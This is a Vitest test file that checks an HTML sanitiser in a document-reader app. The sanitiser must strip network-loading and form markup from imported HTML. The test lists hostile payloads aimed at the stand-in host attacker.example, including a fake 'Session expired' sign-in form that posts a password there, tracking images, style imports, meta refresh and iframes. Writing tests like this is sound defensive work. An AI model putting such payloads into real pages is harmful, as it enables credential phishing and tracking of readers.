// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitiseReaderHtml } from '../../../../renderer/src/reader/text/reader-html';

const REMOTE = 'https://attacker.example/beacon';
const BLOB = 'a'.repeat(64);

/** Markup that loads from the network or imitates the app, as a merged file's altered HTML blob could carry it. */
const PAYLOADS: Record<string, string> = {
  'SVG image': `<p>Before</p><svg width="10" height="10"><image href="${REMOTE}" width="10" height="10"></image></svg><p>After</p>`,
  'SVG image, xlink': `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${REMOTE}"></image><use href="${REMOTE}#x"></use></svg>`,
  'form with inputs': `<form action="${REMOTE}" method="post"><p>Session expired: sign in again</p><input name="passphrase" type="password"><button formaction="${REMOTE}">Sign in</button></form>`,
  'video poster': `<video poster="${REMOTE}" src="${REMOTE}"><source src="${REMOTE}"><track src="${REMOTE}"></video>`,
  'style import': `<style>@import url("${REMOTE}"); p { background: url(${REMOTE}) }</style><p>Styled</p>`,
  'style attribute': `<p style="background-image: url(${REMOTE})">Background</p>`,
  'image srcset': `<img src="fieldbook-asset:${BLOB}" srcset="${REMOTE} 2x"><picture><source srcset="${REMOTE}"><img src="${REMOTE}"></picture>`,
  'remote image': `<img src="${REMOTE}"><input type="image" src="${REMOTE}">`,
  'link, meta, base': `<link rel="stylesheet" href="${REMOTE}"><meta http-equiv="refresh" content="0;url=${REMOTE}"><base href="${REMOTE}/">`,
  'embeds': `<iframe src="${REMOTE}"></iframe><object data="${REMOTE}"></object><embed src="${REMOTE}"><audio src="${REMOTE}"></audio>`,
  'table background': `<table background="${REMOTE}"><tr><td background="${REMOTE}">Cell</td></tr></table>`,
  'MathML': `<math><mi xlink:href="${REMOTE}">x</mi></math>`,
};

/** Every attribute value that could make the browser fetch, anywhere in the fragment. Links (<a href>) never navigate in the reader and do not load. */
function remoteReferences(fragment: DocumentFragment): string[] {
  const found: string[] = [];
  for (const element of fragment.querySelectorAll('*')) {
    for (const attribute of Array.from(element.attributes)) {
      const isLink = element.localName === 'a' && attribute.name === 'href';
      if (!isLink && /attacker\.example/.test(attribute.value)) found.push(`<${element.localName} ${attribute.name}>`);
    }
    if (/attacker\.example/.test(element.localName === 'style' ? (element.textContent ?? '') : '')) found.push('<style>');
  }
  return found;
}

describe('sanitiseReaderHtml', () => {
  for (const [name, payload] of Object.entries(PAYLOADS)) {
    it(`leaves nothing that loads and no form: ${name}`, () => {
      const fragment = sanitiseReaderHtml(payload);
      expect(remoteReferences(fragment)).toEqual([]);
      expect(fragment.querySelectorAll('form, input, button, textarea, select, svg, math, style, link, meta, base, iframe, object, embed, video, audio, source, track, picture').length).toBe(0);
    });
  }

  it('keeps the document text, its own images and its links', () => {
    const fragment = sanitiseReaderHtml(`<h1>Title</h1><p dir="rtl">نص <a href="https://example.org/a">link</a></p><img src="fieldbook-asset:${BLOB}" alt="Map">`);
    const image = fragment.querySelector('img');
    expect(image?.dataset.asset).toBe(BLOB);
    expect(image?.hasAttribute('src')).toBe(false);
    expect(fragment.querySelector('a')?.getAttribute('title')).toBe('https://example.org/a');
    expect(fragment.querySelector('p')?.getAttribute('dir')).toBe('rtl');
    expect(fragment.textContent).toBe('Titleنص link');
  });
});
